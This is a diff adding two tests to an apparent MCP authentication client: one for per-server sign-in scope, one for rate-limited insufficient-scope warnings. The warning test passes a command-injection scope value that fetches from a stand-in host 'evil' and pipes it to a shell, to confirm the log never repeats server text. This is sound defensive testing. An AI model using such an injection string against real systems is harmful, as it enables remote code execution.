@@ -177,6 +177,34 @@ test('nobody looks for sign-ins once the workload has ended', async () => {
   expect(clock.waiting).toBe(0);
 });
 
+test('a sign-in is for one server of a host, unless its token is for the whole of it', async () => {
+  const beside = { url: 'https://mcp.invalid/other/mcp' };
+  const token = await opened({}, beside).token;
+  onTestFinished(() => token.close());
+  await expect(token.token()).rejects.toMatchObject({ code: 'auth/not-signed-in' });
+  const whole = new Map([[KEY, { ...KEPT, resourceIndicator: 'https://mcp.invalid' }]]);
+  const open = await opened({}, { ...beside, kept: whole }).token;
+  onTestFinished(() => open.close());
+  expect(await open.token()).toBe('access-1');
+});
+
+test('what a server lacks is told once an hour, in none of its words', async () => {
+  const told: string[] = [];
+  const log = { ...silentLog, warn: (_fields: object, message: string) => void told.push(message) };
+  const { clock, token: opening } = opened({}, { log });
+  const token = await opening;
+  onTestFinished(() => token.close());
+  const lack = (scope: string): void =>
+    token.lacking('access-1', `Bearer error="insufficient_scope", scope="${scope}"`);
+  lack('a;curl${IFS}evil|sh');
+  lack('b');
+  await expect.poll(() => told).toHaveLength(1);
+  expect(told).toEqual(['the server wants more than the token allows: skep auth login a1 asks for it']);
+  clock.pass(3_600_000);
+  lack('c');
+  await expect.poll(() => told).toHaveLength(2);
+});
+
 test('a login is noticed though nobody calls', async () => {
   const { clock, store, token: opening } = opened({}, { kept: new Map() });
   const token = await opening;
